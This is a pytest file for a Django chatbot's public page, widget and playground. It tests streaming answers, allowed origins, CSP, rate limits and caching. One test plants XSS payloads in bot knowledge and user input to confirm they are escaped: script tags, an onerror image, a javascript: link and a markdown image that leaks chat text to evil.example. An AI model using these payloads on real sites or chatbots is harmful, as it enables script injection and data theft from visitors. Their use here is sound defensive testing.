"""The public page, the widget and the playground, through Django's test client."""

import json
import math
import time

import pytest
from django.db.models import F

from bots.models import Bot, WidgetConfig
from chat.models import Conversation, Feedback, Message
from documents.models import Document

ORIGIN = "http://testserver"


def post_json(client, path, data, origin=ORIGIN, **headers):
    if origin:
        headers["HTTP_ORIGIN"] = origin
    return client.post(path, json.dumps(data), content_type="application/json", **headers)


def read_events(response):
    """Parse a Server-Sent Events body into [(event, data)]."""
    assert response["Content-Type"].startswith("text/event-stream")
    body = b"".join(response.streaming_content).decode()
    assert body.endswith("\n\n")
    events = []
    for frame in body.strip("\n").split("\n\n"):
        lines = dict(line.split(": ", 1) for line in frame.split("\n"))
        events.append((lines["event"], json.loads(lines["data"])))
    return events


def ask(client, bot, message, headers=None, **extra):
    return post_json(client, f"/c/{bot.public_id}/messages/", {"message": message, **extra}, **(headers or {}))


def set_widget(bot, **fields):
    """Saved unvalidated (a bad domain must not reach the CSP even if stored); saving also
    makes the public channels of this process read the bot again (kaiu.local_cache)."""
    widget = WidgetConfig.objects.get(bot=bot)
    for name, value in fields.items():
        setattr(widget, name, value)
    widget.save()


def test_the_public_page_streams_a_cited_answer(client, shop_bot):
    page = client.get(f"/c/{shop_bot.public_id}/")
    assert page.status_code == 200
    assert "frame-ancestors 'none'" in page["Content-Security-Policy"]
    assert b'id="chat-config"' in page.content

    events = read_events(ask(client, shop_bot, "¿Cuánto tarda el envío a Cali?"))
    kinds = [kind for kind, _ in events]
    assert kinds[0] == "conversation"
    assert kinds[-1] == "done"
    assert "delta" in kinds
    first, done = events[0][1], events[-1][1]
    streamed = "".join(data["text"] for kind, data in events if kind == "delta")
    assert "3 a 5 días" in streamed
    assert done["text"] == streamed
    assert '<sup class="cite" data-n="1">1</sup>' in done["html"]
    assert done["sources"]
    assert all(source["cited"] for source in done["sources"])
    assert "score" not in done["sources"][0]  # visitors see passages, not scores
    conversation = Conversation.objects.get(pk=first["conversation"])
    assert conversation.channel == "PAGE"
    assert conversation.visitor_id == first["token"]


def test_a_visitor_continues_their_conversation_and_sees_its_history(client, shop_bot):
    first = read_events(ask(client, shop_bot, "¿Aceptan Nequi?"))[0][1]
    read_events(ask(client, shop_bot, "¿Y pago contra entrega?", **first))
    assert Conversation.objects.count() == 1
    history = client.get(f"/c/{shop_bot.public_id}/history/", first).json()["messages"]
    assert [m["role"] for m in history] == ["user", "assistant", "user", "assistant"]
    # Without the token a conversation id shows nothing and starts nothing.
    assert client.get(f"/c/{shop_bot.public_id}/history/", {"conversation": first["conversation"]}).json() == {
        "messages": [], "with_person": False}
    read_events(ask(client, shop_bot, "Hola", conversation=first["conversation"], token="guess"))
    assert Conversation.objects.count() == 2


def test_anonymous_posts_are_accepted_only_from_allowed_origins(client, shop_bot):
    assert ask(client, shop_bot, "Hola").status_code == 200  # our own page
    for origin in ("https://evil.example", None):
        response = post_json(client, f"/c/{shop_bot.public_id}/messages/", {"message": "Hola"}, origin=origin)
        assert response.status_code == 403
        assert response.json()["error"]["code"] == "forbidden_origin"
    set_widget(shop_bot, allowed_domains=["shop.example.com", "*.tienda.co"])
    for origin, status in (("https://shop.example.com", 200), ("https://www.tienda.co", 200),
                           ("https://shop.example.com.evil.io", 403)):
        assert post_json(client, f"/c/{shop_bot.public_id}/messages/", {"message": "Hola"},
                         origin=origin).status_code == status


def test_the_widget_frame_may_be_embedded_only_by_allowed_domains(client, shop_bot):
    response = client.get(f"/c/{shop_bot.public_id}/frame/")
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert "X-Frame-Options" not in response
    set_widget(shop_bot, allowed_domains=["https://Shop.example.com/", "*.tienda.co", "bad domain;"])
    csp = client.get(f"/c/{shop_bot.public_id}/frame/")["Content-Security-Policy"]
    assert "frame-ancestors shop.example.com *.tienda.co" in csp
    assert "bad" not in csp
    # What an answer may load or reach: our own origin only.
    assert "img-src 'self' data:" in csp
    assert "connect-src 'self'" in csp
    assert "script-src 'self'" in csp


def test_the_widget_script_points_at_the_frame_and_stays_off_without_domains(client, shop_bot):
    script = client.get(f"/widget/{shop_bot.public_id}.js")
    assert script["Content-Type"].startswith("text/javascript")
    body = script.content.decode()
    assert f"http://testserver/c/{shop_bot.public_id}/frame/" in body
    assert '"enabled": false' in body
    set_widget(shop_bot, allowed_domains=["shop.example.com"], position="left")
    body = client.get(f"/widget/{shop_bot.public_id}.js").content.decode()
    assert '"enabled": true' in body
    assert '"position": "left"' in body
    assert '"domains": ["shop.example.com"]' in body
    assert client.get("/widget/nosuchbot1.js").status_code == 404


def test_rate_limits_answer_429_with_retry_after(client, shop_bot, settings, rate_window):
    settings.RATE_LIMIT_PER_IP_PER_MINUTE = 2
    assert ask(client, shop_bot, "Hola").status_code == 200
    assert ask(client, shop_bot, "Hola").status_code == 200
    refused = ask(client, shop_bot, "Hola")
    assert refused.status_code == 429
    # The rest of the fixed one-minute window, rounded up (kaiu.platform.limits).
    assert abs(int(refused["Retry-After"]) - math.ceil(60 - time.time() % 60)) <= 1
    assert "Espera" in refused.json()["error"]["message"]
    # Another address has its own allowance; X-Forwarded-For is ignored without a trusted proxy.
    assert ask(client, shop_bot, "Hola", {"REMOTE_ADDR": "10.0.0.9"}).status_code == 200
    assert ask(client, shop_bot, "Hola", {"HTTP_X_FORWARDED_FOR": "10.0.0.77"}).status_code == 429


def test_a_trusted_proxy_makes_the_forwarded_address_count(client, shop_bot, settings, rate_window):
    settings.RATE_LIMIT_PER_IP_PER_MINUTE = 1
    settings.TRUSTED_PROXY_COUNT = 1
    assert ask(client, shop_bot, "Hola", {"HTTP_X_FORWARDED_FOR": "1.1.1.1, 203.0.113.5"}).status_code == 200
    assert ask(client, shop_bot, "Hola", {"HTTP_X_FORWARDED_FOR": "9.9.9.9, 203.0.113.5"}).status_code == 429
    assert ask(client, shop_bot, "Hola", {"HTTP_X_FORWARDED_FOR": "203.0.113.6"}).status_code == 200


def test_a_conversation_has_its_own_rate_limit(client, shop_bot, settings, rate_window):
    settings.RATE_LIMIT_PER_CONVERSATION_PER_MINUTE = 1
    first = read_events(ask(client, shop_bot, "Hola"))[0][1]  # a new conversation counts against the IP only
    assert ask(client, shop_bot, "Otra vez", **first).status_code == 200
    refused = ask(client, shop_bot, "Y otra", **first)
    assert refused.status_code == 429
    assert refused["Retry-After"]


def test_bad_input_gets_a_clear_error_and_stores_nothing(client, shop_bot, settings):
    settings.CHAT_MAX_MESSAGE_CHARS = 20
    too_long = ask(client, shop_bot, "x" * 21)
    assert too_long.status_code == 400
    assert "20 caracteres" in too_long.json()["error"]["message"]
    assert ask(client, shop_bot, "  ").status_code == 400
    not_json = client.post(f"/c/{shop_bot.public_id}/messages/", "nope", content_type="application/json",
                           HTTP_ORIGIN=ORIGIN)
    assert not_json.status_code == 400
    assert not Conversation.objects.exists()
    assert not Message.objects.exists()


def test_with_the_quota_used_up_a_person_answers_the_visitor(client, shop_bot):
    from kaiu.accounts.models import Plan

    Plan.objects.filter(pk=shop_bot.tenant.plan_id).update(max_queries_per_month=1)
    assert read_events(ask(client, shop_bot, "¿Aceptan Nequi?"))[-1][0] == "done"
    events = read_events(ask(client, shop_bot, "Hola"))  # a new conversation: handed to a person
    assert events[-1][0] == "done"
    assert "una persona" in events[-1][1]["text"]
    conversation = Conversation.objects.get(pk=events[0][1]["conversation"])
    assert (conversation.status, conversation.handover_code) == ("HANDED_OVER", "quota")
    assert Message.objects.count() == 4


def test_feedback_is_recorded_on_the_visitors_own_answers_only(client, shop_bot):
    events = read_events(ask(client, shop_bot, "¿Aceptan Nequi?"))
    first, done = events[0][1], events[-1][1]
    response = post_json(client, f"/c/{shop_bot.public_id}/feedback/",
                         {**first, "message": done["id"], "rating": -1, "comment": "Faltó el precio"})
    assert response.status_code == 200
    feedback = Feedback.objects.get()
    assert (feedback.rating, feedback.comment) == (-1, "Faltó el precio")
    other = read_events(ask(client, shop_bot, "Hola"))[-1][1]
    refused = post_json(client, f"/c/{shop_bot.public_id}/feedback/", {**first, "message": other["id"], "rating": 1})
    assert refused.status_code == 404
    assert post_json(client, f"/c/{shop_bot.public_id}/feedback/",
                     {**first, "message": done["id"], "rating": 5}).status_code == 400


def test_markup_in_documents_and_questions_comes_out_escaped(client, shop_bot, add_text):
    add_text(shop_bot, "<b>Trampa</b>", "Horario de atención <script>alert('doc')</script> de 8 a 18. "
                                        "<img src=x onerror=alert(1)> ![x](https://evil.example/leak?q=chat) "
                                        "[enlace](javascript:alert(2))")
    shop_bot.refresh_from_db()
    events = read_events(ask(client, shop_bot, "¿Cuál es el horario de atención? <script>alert('q')</script>"))
    html = events[-1][1]["html"]
    assert "horario" in html.lower()
    for dangerous in ("<script", "<img", "onerror", "javascript:", "evil.example"):
        assert dangerous not in html, dangerous
    first = events[0][1]
    history = client.get(f"/c/{shop_bot.public_id}/history/", first)
    # The question travels as JSON text, which the page sets with textContent, never as HTML.
    assert history["Content-Type"] == "application/json"
    assert history["X-Content-Type-Options"] == "nosniff"
    user, answer = history.json()["messages"]
    assert user["html"] == ""
    assert user["text"].endswith("<script>alert('q')</script>")
    assert "<script" not in answer["html"]
    assert "<img" not in answer["html"]


def test_an_unknown_bot_is_404_everywhere(client, db):
    for path in ("/c/nosuchbot1/", "/c/nosuchbot1/frame/", "/c/nosuchbot1/history/"):
        assert client.get(path).status_code == 404
    assert post_json(client, "/c/nosuchbot1/messages/", {"message": "Hola"}).status_code == 404


# --- Playground ---------------------------------------------------------------------------


def test_the_playground_shows_scores_timings_and_tokens(owner_client, shop_bot):
    page = owner_client.get(f"/app/playground/{shop_bot.public_id}/")
    assert page.status_code == 200
    assert b"chat-config" in page.content
    response = owner_client.post(f"/app/playground/{shop_bot.public_id}/messages/",
                                 json.dumps({"message": "¿Cuánto tarda el envío a Cali?"}),
                                 content_type="application/json")
    events = read_events(response)
    done = events[-1][1]
    assert done["origin"] == "model"
    assert done["model"] == "kaiu-extractive-v2"
    assert set(done["timings"]) == {"embed", "retrieve", "llm", "total"}
    assert done["tokens"]["in"] > 0
    assert all("score" in source for source in done["sources"])  # every passage, cited or not
    conversation = Conversation.objects.get()
    assert conversation.channel == "PLAYGROUND"
    history = owner_client.get(f"/app/playground/{shop_bot.public_id}/history/",
                               {"conversation": str(conversation.pk)}).json()["messages"]
    assert len(history) == 2
    response = owner_client.post(f"/app/playground/{shop_bot.public_id}/feedback/",
                                 json.dumps({"conversation": str(conversation.pk), "message": done["id"], "rating": 1}),
                                 content_type="application/json")
    assert response.status_code == 200
    assert Feedback.objects.get().rating == 1


def test_a_teammate_cannot_continue_someone_elses_playground_conversation(client, owner_client, shop_bot,
                                                                          member_with_role):
    events = read_events(owner_client.post(f"/app/playground/{shop_bot.public_id}/messages/",
                                           json.dumps({"message": "Hola"}), content_type="application/json"))
    conversation = events[0][1]["conversation"]
    client.force_login(member_with_role("ADMIN"))
    history = client.get(f"/app/playground/{shop_bot.public_id}/history/", {"conversation": conversation})
    assert history.json()["messages"] == []
    read_events(client.post(f"/app/playground/{shop_bot.public_id}/messages/",
                            json.dumps({"message": "Hola", "conversation": conversation}),
                            content_type="application/json"))
    assert Conversation.objects.count() == 2  # a new one of their own


@pytest.mark.parametrize("path", ["/c/{id}/messages/", "/c/{id}/feedback/"])
def test_public_endpoints_refuse_get(client, shop_bot, path):
    assert client.get(path.format(id=shop_bot.public_id)).status_code == 405


def test_documents_of_the_bot_are_untouched_by_chatting(client, shop_bot):
    before = Document.objects.get(bot=shop_bot).retrieval_count
    read_events(ask(client, shop_bot, "¿Aceptan Nequi?"))
    assert Document.objects.get(bot=shop_bot).retrieval_count == before + 1  # counted, nothing else


def test_a_refused_question_leaves_no_empty_conversation(owner_client, shop_bot):
    """In the playground: the public page and the widget hand over instead (test_handover.py)."""
    from kaiu.accounts.models import Plan

    Plan.objects.filter(pk=shop_bot.tenant.plan_id).update(max_queries_per_month=0)
    for _ in range(3):
        assert post_json(owner_client, f"/app/playground/{shop_bot.public_id}/messages/",
                         {"message": "Hola"}).status_code == 429
    assert not Conversation.objects.exists()


def test_a_visitor_token_opens_no_api_or_playground_conversation(client, shop_bot):
    from chat.services import conversation_start

    api = conversation_start(bot=shop_bot, channel="API", visitor_id="ana@example.com")
    history = client.get(f"/c/{shop_bot.public_id}/history/", {"conversation": str(api.pk), "token": "ana@example.com"})
    assert history.json() == {"messages": [], "with_person": False}


@pytest.mark.parametrize("rating", [None, [1], {"a": 1}, "x"])
def test_a_malformed_rating_is_a_400(client, shop_bot, rating):
    events = read_events(ask(client, shop_bot, "¿Aceptan Nequi?"))
    response = post_json(client, f"/c/{shop_bot.public_id}/feedback/",
                         {**events[0][1], "message": events[-1][1]["id"], "rating": rating})
    assert response.status_code == 400


def test_a_bot_change_made_by_another_process_reaches_the_public_page_within_the_cache_time(client, shop_bot,
                                                                                          settings):
    settings.LOCAL_CACHE_SECONDS = 1
    assert client.get(f"/c/{shop_bot.public_id}/").status_code == 200
    # Another process (the dashboard's worker) saves: this process's signals do not see it.
    WidgetConfig.objects.filter(bot=shop_bot).update(header_text="Nuevo encabezado")
    assert "Nuevo encabezado" not in client.get(f"/c/{shop_bot.public_id}/").content.decode()
    time.sleep(1.1)
    assert "Nuevo encabezado" in client.get(f"/c/{shop_bot.public_id}/").content.decode()


def test_a_bot_change_saved_in_this_process_applies_at_once(client, shop_bot):
    assert client.get(f"/c/{shop_bot.public_id}/").status_code == 200
    set_widget(shop_bot, header_text="Nuevo encabezado")
    assert "Nuevo encabezado" in client.get(f"/c/{shop_bot.public_id}/").content.decode()
    shop_bot.delete()
    assert client.get(f"/c/{shop_bot.public_id}/").status_code == 404


def test_a_change_committed_after_another_thread_read_the_bot_still_applies_at_once(shop_bot,
                                                                                      django_capture_on_commit_callbacks):
    from bots.selectors import _public_bots, bot_get_for_public

    with django_capture_on_commit_callbacks(execute=True):
        before = dict(_public_bots._entries)
        bot_get_for_public(shop_bot.public_id)
        stale = dict(_public_bots._entries)
        _public_bots._entries.clear()
        _public_bots._entries.update(before)
        set_widget(shop_bot, header_text="Nuevo encabezado")
        _public_bots._entries.update(stale)  # another thread read the bot before this commit
    assert bot_get_for_public(shop_bot.public_id).widget.header_text == "Nuevo encabezado"


def test_an_unknown_bot_id_is_not_remembered(client, shop_bot):
    assert client.get("/c/notyetabot/").status_code == 404
    Bot.objects.filter(pk=shop_bot.pk).update(public_id="notyetabot")  # e.g. saved by another process
    assert client.get("/c/notyetabot/").status_code == 200


def test_deleting_the_provider_key_reaches_the_public_channels_at_once(shop_bot, settings):
    from bots.selectors import bot_get_for_public
    from kaiu.accounts.services import llm_key_delete, llm_settings_update

    settings.ALLOW_PRIVATE_PROVIDER_HOSTS = True
    llm_settings_update(tenant=shop_bot.tenant, provider="OPENAI_COMPATIBLE", base_url="http://127.0.0.1:9/v1",
                        chat_model="m", embedding_model="e", api_key="sk-secret-123456")
    assert bot_get_for_public(shop_bot.public_id).tenant.settings.api_key == "sk-secret-123456"
    llm_key_delete(tenant=shop_bot.tenant)
    tenant_settings = bot_get_for_public(shop_bot.public_id).tenant.settings
    assert tenant_settings.api_key == ""
    assert tenant_settings.llm_provider == "BUILTIN"


def test_cached_answers_follow_the_knowledge_even_when_the_bot_itself_is_cached(client, shop_bot):
    question = "¿Cuánto tarda el envío a Cali?"
    assert read_events(ask(client, shop_bot, question))[-1][1]["cache_hit"] is False
    assert read_events(ask(client, shop_bot, question))[-1][1]["cache_hit"] is True
    # The knowledge changes in the ingestion worker's process: this one still holds the bot
    # with the old knowledge_version, and must not serve the answer cached for it.
    Bot.objects.filter(pk=shop_bot.pk).update(knowledge_version=F("knowledge_version") + 1)
    assert read_events(ask(client, shop_bot, question))[-1][1]["cache_hit"] is False


# Foreign keys are checked at commit, so this test commits (and restores the plans and templates).
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_bot_deleted_by_another_process_gets_404_not_an_error_while_still_cached_here(client, shop_bot):
    from bots.selectors import _public_bots

    assert client.get(f"/c/{shop_bot.public_id}/").status_code == 200
    held_by_this_worker = dict(_public_bots._entries)
    shop_bot.delete()  # in the dashboard's worker...
    _public_bots._entries.update(held_by_this_worker)  # ...while this one still holds the bot for a few seconds
    response = ask(client, shop_bot, "¿Cuánto tarda el envío a Cali?")
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"
